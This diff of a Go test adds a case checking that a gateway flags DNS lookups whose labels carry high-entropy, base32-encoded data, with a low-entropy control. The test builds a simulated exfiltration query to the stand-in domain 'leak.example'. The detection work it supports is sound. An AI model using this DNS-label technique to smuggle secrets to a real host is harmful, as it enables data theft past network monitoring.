@@ -414,6 +414,35 @@ func TestGatewayDNS(t *testing.T) {
 			t.Errorf("%d exfiltration signals, want 1", n)
 		}
 	})
+	t.Run("C9 a high-entropy label raises an alert", func(t *testing.T) {
+		// 32 bytes of a secret in base32, one label: what an exfiltrating
+		// resolver lookup carries. The control, a long dictionary label
+		// under another domain, raises nothing.
+		c := casebook.Expect(t, "C9", "a 52-character base32 label (32 random bytes) under leak.example, and a control: a 24-character word label under words.example",
+			"one dns_high_entropy audit record for leak.example naming the label's entropy; none for words.example")
+		ask := func(name string) {
+			resp, err := cl.Post("http://sluice/v1/dns", "application/dns-message", strings.NewReader(string(q(name, mdns.TypeA))))
+			if err != nil {
+				t.Fatal(err)
+			}
+			readAll(resp)
+		}
+		ask("kvwzsdklmn3eq2tfojrgk5dpmvzhg6ljnbswy3dpeblw64tmmqqgq5.leak.example.")
+		ask("mississippimississippiab.words.example.")
+		w.awaitAudit(t, "dns_high_entropy", "leak.example")
+		var rec map[string]any
+		for _, r := range w.g.For(t).AuditEvent("dns_high_entropy", "leak.example") {
+			rec = fieldsOf(r)
+		}
+		words := len(w.g.For(t).AuditEvent("dns_high_entropy", "words.example"))
+		c.Observef("leak.example: entropy %v over %v bytes; words.example records %d", rec["label_entropy"], rec["label_length"], words)
+		if rec == nil || rec["base_domain"] != "leak.example" {
+			t.Errorf("no dns_high_entropy record for leak.example: %v", rec)
+		}
+		if words != 0 {
+			t.Errorf("%d dns_high_entropy records for a low-entropy label", words)
+		}
+	})
 }
 
 // TestGatewayHolds is THREATS B7, E1, E2, E4 and E5 against the real
